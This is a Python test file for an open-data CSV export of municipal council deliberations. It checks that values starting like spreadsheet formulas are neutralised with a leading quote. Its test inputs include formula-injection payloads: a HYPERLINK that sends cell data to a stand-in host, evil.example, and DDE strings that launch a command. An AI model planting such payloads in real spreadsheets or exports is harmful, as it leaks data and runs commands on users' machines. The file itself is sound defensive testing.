"""The open-data CSV shows a formula a caller wrote instead of letting a spreadsheet run it."""

from __future__ import annotations

import csv
import io

import pytest

from service.domain.seance import SeancePayload
from service.services.seance_outputs import neutralised, scdl_csv
from tests.seance_support import sitting


@pytest.mark.parametrize("objet", [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
])
def test_a_cell_starting_as_a_formula_is_prefixed_with_a_quote(dijon, objet) -> None:
    data, _ = sitting(dijon, 2)
    data["deliberations"][1]["objet"] = objet
    text = scdl_csv(SeancePayload.model_validate(data)).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[1]["DELIB_OBJET"] == "'" + objet
    # The first act's objet, an ordinary text, is untouched.
    assert rows[0]["DELIB_OBJET"] == data["deliberations"][0]["objet"]


def test_ordinary_values_are_left_alone() -> None:
    assert neutralised("Création d'un poste = 2 ETP") == "Création d'un poste = 2 ETP"
    assert neutralised(3) == 3
    assert neutralised("") == ""
